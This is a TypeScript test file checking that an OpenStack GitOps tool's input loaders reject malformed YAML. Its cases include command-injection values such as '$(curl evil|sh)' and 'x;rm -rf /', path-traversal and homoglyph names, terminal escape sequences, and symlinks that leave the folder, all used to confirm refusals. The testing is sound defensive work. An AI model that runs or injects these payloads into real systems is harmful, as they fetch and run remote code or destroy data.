/**
 * Every input is checked at the edge against its grammar: each case edits one field of the
 * example inputs and expects the loader to refuse it with a typed error naming the place.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { OsvError } from '../../src/errors.js';
import { loadControlPlane } from '../../src/inputs/controlplane.js';
import { loadCsv } from '../../src/inputs/csv.js';
import { loadCustomImages } from '../../src/inputs/custom-images.js';
import { loadNodeSets } from '../../src/inputs/nodesets.js';
import { loadOpenStackVersion } from '../../src/inputs/openstack-version.js';
import { checkInputSize, readObjects } from '../../src/inputs/yaml.js';

const example = join(import.meta.dirname, '..', '..', 'fixtures', 'example');
const text = (f: string) => readFileSync(join(example, f), 'utf8');
const CSV = text('csv.yaml');
const OSV = text('openstackversion.yaml');
const CP = text('controlplane.yaml');
const NODESET = text('nodesets/compute-a.yaml');

const base = mkdtempSync(join(tmpdir(), 'osv-edge-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));
let n = 0;
function file(content: string, name = 'input.yaml'): string {
  const dir = join(base, String(n++));
  mkdirSync(dir);
  const p = join(dir, name);
  writeFileSync(p, content);
  return p;
}

function replaceOnce(s: string, from: string, to: string): string {
  expect(s.split(from)).toHaveLength(2);
  return s.replace(from, () => to);
}

function refusal(fn: () => unknown): OsvError {
  try {
    fn();
  } catch (e) {
    if (e instanceof OsvError) return e;
    throw e;
  }
  throw new Error('expected the input to be refused');
}

const RELEASE = '                - name: OPENSTACK_RELEASE_VERSION\n                  value: 18.0.4-1764633600\n';
const NOVA = 'quay.io/podified-antelope-centos9/openstack-nova-api@sha256:486fa9accb197f8bf0e17e563c8f32602ac4edfd4402821623725e6eb42efb8d';

describe('the CSV at the edge', () => {
  it('loads the example', () => {
    expect(loadCsv(file(CSV)).releaseVersion).toBe('18.0.4-1764633600');
  });

  it('refuses OPENSTACK_RELEASE_VERSION set twice, with the same or another value', () => {
    for (const second of ['18.0.4-1764633600', '99.0.0']) {
      const csv = replaceOnce(CSV, RELEASE, `${RELEASE}                - name: OPENSTACK_RELEASE_VERSION\n                  value: ${second}\n`);
      const e = refusal(() => loadCsv(file(csv)));
      expect(e.code).toBe('CSV_CONFLICT');
      expect(e.exitCode).toBe(2);
      expect(e.message).toContain('OPENSTACK_RELEASE_VERSION is set twice');
    }
  });

  it('refuses a RELATED_IMAGE_* variable set twice', () => {
    const line = `                - name: RELATED_IMAGE_NOVA_API_IMAGE_URL_DEFAULT\n                  value: ${NOVA}\n`;
    const e = refusal(() => loadCsv(file(replaceOnce(CSV, line, line + line))));
    expect(e.code).toBe('CSV_CONFLICT');
    expect(e.message).toContain('RELATED_IMAGE_NOVA_API_IMAGE_URL_DEFAULT is set twice');
  });

  it('refuses an image variable that is not an image reference', () => {
    const e = refusal(() => loadCsv(file(replaceOnce(CSV, NOVA, "'$(curl evil|sh)'"))));
    expect(e.code).toBe('IMAGE_INVALID');
    expect(e.message).toMatch(/containers\[0\]\.env\[\d+\]\.value: RELATED_IMAGE_NOVA_API_IMAGE_URL_DEFAULT "\$\(curl evil\|sh\)" is not valid/);
  });

  it('refuses release versions outside the grammar, including trailing blanks', () => {
    for (const bad of ['18.0.4-/../../../outside', '"18.0.4 "', '"18.0.4\\n"', '"18.0.4\\u001b[2J"', "'-18.0.4'"]) {
      const e = refusal(() => loadCsv(file(replaceOnce(CSV, 'value: 18.0.4-1764633600', `value: ${bad}`))));
      expect(e.code, bad).toBe('VERSION_INVALID');
      expect(e.message).not.toContain('\u001b');
    }
  });

  it('refuses an env name that is not one, without echoing its control bytes', () => {
    const e = refusal(() => loadCsv(file(replaceOnce(CSV, '- name: ENABLE_WEBHOOKS', '- name: "ENABLE\\e[2J_WEBHOOKS"'))));
    expect(e.code).toBe('INPUT_INVALID');
    expect(e.message).toContain('"ENABLE\\u001b[2J_WEBHOOKS" is not an environment variable name');
  });

  it('refuses a CSV of another API group, and a bad CSV name', () => {
    expect(refusal(() => loadCsv(file(replaceOnce(CSV, 'apiVersion: operators.coreos.com/v1alpha1', 'apiVersion: evil.example.com/v1')))).code).toBe('INPUT_INVALID');
    expect(refusal(() => loadCsv(file(replaceOnce(CSV, 'name: openstack-operator.v18.0.4', 'name: ../../x')))).code).toBe('NAME_INVALID');
  });
});

describe('the OpenStackVersion at the edge', () => {
  it('loads the example', () => {
    expect(loadOpenStackVersion(file(OSV)).targetVersion).toBe('18.0.3-1761036417');
  });

  const cases: [string, string, string, string][] = [
    ['a traversal name', '  name: openstack\n  namespace: openstack\n', '  name: ../../../../outside/pwn-ns\n  namespace: openstack\n', 'NAME_INVALID'],
    ['a homoglyph name', '  name: openstack\n  namespace: openstack\n', '  name: openst\u0430ck\n  namespace: openstack\n', 'NAME_INVALID'],
    ['a bad namespace', '  namespace: openstack\n', "  namespace: 'Bad NS!'\n", 'NAME_INVALID'],
    ['a bad targetVersion', 'targetVersion: 18.0.3-1761036417', 'targetVersion: 18.0.4-/../../../outside', 'VERSION_INVALID'],
    ['a bad availableVersion', 'availableVersion: 18.0.4-1764633600', "availableVersion: '18.0.4 '", 'VERSION_INVALID'],
    ['a bad deployedVersion', 'deployedVersion: 18.0.3-1761036417', 'deployedVersion: a/b', 'VERSION_INVALID'],
    ['a bad containerImageVersionDefaults key', '  containerImageVersionDefaults:\n    18.0.3-1761036417:', '  containerImageVersionDefaults:\n    ../18.0.3:', 'VERSION_INVALID'],
    ['a bad availableServiceDefaults key', '  availableServiceDefaults:\n    18.0.3-1761036417:', "  availableServiceDefaults:\n    ../18.0.3:", 'VERSION_INVALID'],
    ['a bad default image', '    18.0.3-1761036417:\n      agentImage: quay.io/', '    18.0.3-1761036417:\n      agentImage: x;rm -rf /;quay.io/', 'IMAGE_INVALID'],
    ['another apiVersion', 'apiVersion: core.openstack.org/v1beta1\nkind: OpenStackVersion', 'apiVersion: core.openstack.org/v1\nkind: OpenStackVersion', 'OSV_INVALID'],
  ];
  for (const [what, from, to, code] of cases) {
    it(`refuses ${what}`, () => {
      const e = refusal(() => loadOpenStackVersion(file(replaceOnce(OSV, from, to))));
      expect(e.code).toBe(code);
      expect(e.exitCode).toBe(2);
    });
  }
});

describe('the control plane at the edge', () => {
  it('refuses bad names, namespaces and another apiVersion', () => {
    expect(loadControlPlane(file(CP)).name).toBe('openstack');
    expect(refusal(() => loadControlPlane(file(replaceOnce(CP, '  name: openstack\n', '  name: Compute_A\n')))).code).toBe('NAME_INVALID');
    expect(refusal(() => loadControlPlane(file(replaceOnce(CP, '  namespace: openstack\n', "  namespace: 'Bad_NS/../x'\n")))).code).toBe('NAME_INVALID');
    expect(refusal(() => loadControlPlane(file(replaceOnce(CP, 'apiVersion: core.openstack.org/v1beta1', 'apiVersion: v1')))).code).toBe('CONTROLPLANE_INVALID');
  });
});

describe('nodesets at the edge', () => {
  const nodeset = (name: string) => replaceOnce(NODESET, '  name: compute-a\n', `  name: ${name}\n`);

  it('refuses names that are not nodeset names', () => {
    for (const bad of ['../../../../../../outside/pwn-ns', 'Compute_A', 'compute-\u0430', 'a'.repeat(64), 'a'.repeat(240), "'compute a'"]) {
      const e = refusal(() => loadNodeSets(file(nodeset(bad))));
      expect(e.code, bad).toBe('NAME_INVALID');
      expect(e.message).not.toMatch(/[^\x20-\x7e…]/);
    }
    expect(loadNodeSets(file(nodeset('a'.repeat(63))))[0]?.name).toHaveLength(63);
  });

  it('refuses map keys that are not printable ASCII', () => {
    const e = refusal(() => loadNodeSets(file(replaceOnce(NODESET, '    compute-a-0:\n', '    "compute a\\u202e0":\n'))));
    expect(e.code).toBe('NODESET_INVALID');
    expect(e.message).toContain('key "compute a\\u202e0" is not printable ASCII without blanks');
  });

  it('refuses a bad namespace and another apiVersion', () => {
    expect(refusal(() => loadNodeSets(file(replaceOnce(NODESET, '  namespace: openstack\n', "  namespace: 'Bad NS!'\n")))).code).toBe('NAME_INVALID');
    expect(refusal(() => loadNodeSets(file(replaceOnce(NODESET, 'dataplane.openstack.org/v1beta1', 'dataplane.openstack.org/v1alpha1')))).code).toBe('NODESET_INVALID');
  });

  it('follows a symbolic link that stays inside the folder, reading its file once', () => {
    const dir = join(base, 'links-inside');
    mkdirSync(join(dir, 'shared'), { recursive: true });
    writeFileSync(join(dir, 'shared', 'compute-a.yaml'), NODESET);
    symlinkSync(join('shared', 'compute-a.yaml'), join(dir, 'a-link.yaml'));
    symlinkSync('shared', join(dir, 'b-dir-link'));
    symlinkSync('..', join(dir, 'shared', 'loop'));
    const sets = loadNodeSets(dir);
    expect(sets.map((s) => s.name)).toEqual(['compute-a']);
  });

  it('refuses a symbolic link that leads outside the folder, and a broken one', () => {
    const outside = file(replaceOnce(NODESET, '  name: compute-a\n', '  name: compute-x\n'), 'outside.yaml');
    const dir = join(base, 'links-outside');
    mkdirSync(dir);
    writeFileSync(join(dir, 'compute-a.yaml'), NODESET);
    symlinkSync(outside, join(dir, 'compute-x.yaml'));
    const e = refusal(() => loadNodeSets(dir));
    expect(e.code).toBe('INPUT_INVALID');
    expect(e.message).toContain('symbolic link to a file outside the folder');
    const broken = join(base, 'links-broken');
    mkdirSync(broken);
    writeFileSync(join(broken, 'compute-a.yaml'), NODESET);
    symlinkSync('nowhere.yaml', join(broken, 'gone.yaml'));
    expect(refusal(() => loadNodeSets(broken)).message).toContain('broken symbolic link');
  });
});

describe('custom images at the edge', () => {
  it('refuses a value that is not an image reference', () => {
    const e = refusal(() => loadCustomImages(file('novaAPIImage: "$(curl evil|sh)"\n')));
    expect(e.code).toBe('IMAGE_INVALID');
    expect(e.message).toContain('novaAPIImage: image "$(curl evil|sh)" is not valid');
    expect(refusal(() => loadCustomImages(file('cinderVolumeImages:\n  lvm: "quay.io/x y"\n'))).code).toBe('IMAGE_INVALID');
    expect(loadCustomImages(file(`novaAPIImage: ${NOVA}\n`)).images.fields['novaAPIImage']).toBe(NOVA);
  });
});

describe('input sizes', () => {
  it('refuses a nodeset folder holding more than four inputs worth of YAML', () => {
    const dir = join(base, 'many');
    mkdirSync(dir);
    for (let i = 0; i < 8; i++) writeFileSync(join(dir, `n${i}.yaml`), `# ${'x'.repeat(900)}\n${replaceOnce(NODESET, '  name: compute-a\n', `  name: compute-${i}\n`)}`);
    const saved = process.env['OSV_GITOPS_MAX_INPUT_BYTES'];
    process.env['OSV_GITOPS_MAX_INPUT_BYTES'] = '2000';
    try {
      const e = refusal(() => loadNodeSets(dir));
      expect(e.code).toBe('INPUT_TOO_LARGE');
      expect(e.message).toContain('the nodesets hold more than');
    } finally {
      if (saved === undefined) delete process.env['OSV_GITOPS_MAX_INPUT_BYTES'];
      else process.env['OSV_GITOPS_MAX_INPUT_BYTES'] = saved;
    }
    expect(loadNodeSets(dir)).toHaveLength(8);
  });

  it('refuses an input over the limit before reading it', () => {
    const big = file('');
    truncateSync(big, 60 * 1024 * 1024);
    const e = refusal(() => checkInputSize(big, 'the --version-file'));
    expect(e.code).toBe('INPUT_TOO_LARGE');
    expect(e.message).toContain('the --version-file is 60.0 MiB, over the 16 MiB limit');
    expect(refusal(() => readObjects(big, 'the CSV')).code).toBe('INPUT_TOO_LARGE');
    expect(checkInputSize(file('a: 1\n'), 'x')).toBe(5);
    expect(refusal(() => checkInputSize(base, 'the --version-file')).message).toContain('is not a regular file');
    expect(refusal(() => checkInputSize(join(base, 'missing'), 'the --version-file')).code).toBe('INPUT_NOT_FOUND');
  });
});
